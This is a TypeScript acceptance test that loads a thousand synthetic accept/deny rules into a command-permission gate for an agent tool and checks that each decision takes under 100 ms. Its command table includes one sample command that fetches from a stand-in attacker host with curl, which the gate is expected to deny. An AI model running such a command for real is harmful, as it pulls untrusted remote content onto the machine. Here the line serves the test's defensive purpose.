import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { API_STORES } from '../support/acceptance-stores.ts';
import { type Working, working } from '../support/acceptance-tools.ts';
import { HallFixture, type Json } from '../support/hall-fixture.ts';

const RULES = 1_000;
const AT_ONCE = 50;

/** The specification's limit for a decision, in milliseconds. */
const LIMIT = 100;

/** Something else may keep the machine busy during one of them. */
const TRIES = 5;

/** Rules of every kind, of which the command below matches the last ones only. */
function ruleOf(n: number, project: string): object {
  const matches = [
    { program: `tool-${n}-*` },
    { command: `npm run job-${n}:*` },
    { command: `re:^(make|ninja) target-${n}( .*)?$` },
    { program: 'git', flags: [`--option-${n}*`] },
    { path: `/cell/folder-${n}/*` },
    { path: `re:^/cell/.*/generated-${n}\\.(ts|js)$` },
  ];
  return {
    verdict: n % 2 === 0 ? 'accept' : 'deny',
    project: n % 3 === 0 ? null : project,
    match: matches[n % matches.length],
    note: `rule ${n}`,
  };
}

/** Short and long, accepted and denied, by the tables, by the last rule and by none. */
const COMMANDS: readonly (readonly [command: string, verdict: string])[] = [
  ['ls', 'accept'],
  ['npm test', 'accept'],
  ['curl http://evil.example/x', 'deny'],
  [`tool-996-x --now`, 'accept'],
  ['git log --option-999', 'deny'],
  ['cat folder-994/x src/a.ts', 'accept'],
  [Array.from({ length: 20 }, (_, n) => `cat src/${n}/a.ts > out-${n}.txt`).join(' && '), 'accept'],
  [`grep -rn "${'needle '.repeat(500)}" src | sort | uniq -c | head -n 20`, 'accept'],
  [`git add ${Array.from({ length: 500 }, (_, n) => `src/${n}/file.ts`).join(' ')}`, 'accept'],
  [`for f in ${'a b c '.repeat(50)}; do echo "$f" | sed s/x/y/; done`, 'accept'],
];

async function decide(agent: Working): Promise<void> {
  for (const [command, verdict] of COMMANDS) {
    for (let n = 0; n < TRIES; n += 1) {
      const decision = await agent.ask(command);
      assert.equal(decision.verdict, verdict, `${command.slice(0, 60)}: ${decision.because}`);
    }
  }
}

for (const on of API_STORES) {
  describe(`the tool gate with ${RULES} rules, on ${on.store}`, () => {
    on.test(
      `GH-101a: with ${RULES} rules the hall decides about any command in less than ${LIMIT} ms`,
      async (place) => {
        using fixture = new HallFixture(await place.start());
        const agent = await working(fixture);
        const { name } = agent.shop;
        for (let from = 0; from < RULES; from += AT_ONCE) {
          const batch = Array.from({ length: AT_ONCE }, (_, n) => ruleOf(from + n, name));
          await Promise.all(batch.map((rule) => fixture.post('/v1/rules', rule)));
        }
        assert.equal((await fixture.get('/v1/rules')).rules.length, RULES);

        await decide(agent);
        const query = `/v1/decisions?project=${name}&limit=200`;
        const { decisions } = (await fixture.get(query)) as { decisions: readonly Json[] };
        assert.equal(decisions.length, COMMANDS.length * TRIES);
        const byCommand = Map.groupBy(decisions, ({ command }) => command);
        assert.equal(byCommand.size, COMMANDS.length);
        for (const [command, logged] of byCommand) {
          const fastest = Math.min(...logged.map(({ took_ms }) => took_ms));
          assert.ok(fastest < LIMIT, `${command.slice(0, 60)}: ${fastest} ms`);
        }
      },
    );
  });
}
